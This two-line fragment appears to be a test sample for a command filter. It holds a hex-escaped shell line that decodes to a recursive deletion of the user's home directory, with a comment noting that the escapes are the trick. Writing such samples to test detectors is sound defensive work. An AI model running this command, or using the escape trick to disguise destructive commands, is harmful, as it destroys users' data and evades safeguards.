# tricky: the text is in escapes
$(printf '\x72\x6d') -rf ~/
